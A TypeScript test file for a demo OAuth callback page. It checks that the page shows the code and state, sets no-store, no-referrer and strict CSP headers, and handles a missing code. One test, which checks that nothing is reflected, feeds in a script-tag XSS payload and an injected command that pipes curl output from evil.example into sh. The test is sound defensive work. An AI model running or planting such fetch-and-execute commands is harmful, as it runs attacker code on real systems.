import { startTestService, type TestService } from '../../support/service';

describe('the callback page of the demo project', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await startTestService({ roles: 'api' });
  });
  afterAll(() => service.stop());

  const open = async (query: string) => {
    const response = await fetch(`${service.url}/demo/callback${query}`);
    return { headers: response.headers, text: await response.text() };
  };

  it('shows the code and the state that it got, and how to exchange the code', async () => {
    const { headers, text } = await open('?code=abc_DEF-123&state=x%2By');
    expect(text).toContain('<pre id="code">abc_DEF-123</pre>');
    expect(text).toContain('<pre id="state">x+y</pre>');
    expect(text).toContain('/v1/auth/verify');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('content-security-policy')).not.toContain('unsafe');
  });

  it('runs no script from its address', async () => {
    expect((await open('?code=abc&state=<script>alert(1)</script>')).text).not.toContain('<script>');
    const { text } = await open("?code=';curl+evil.example|sh;'");
    expect(text).toContain('without a code');
    expect(text).not.toContain('evil');
  });

  it('says so when it was opened without a code', async () => {
    expect((await open('')).text).toContain('without a code');
  });
});
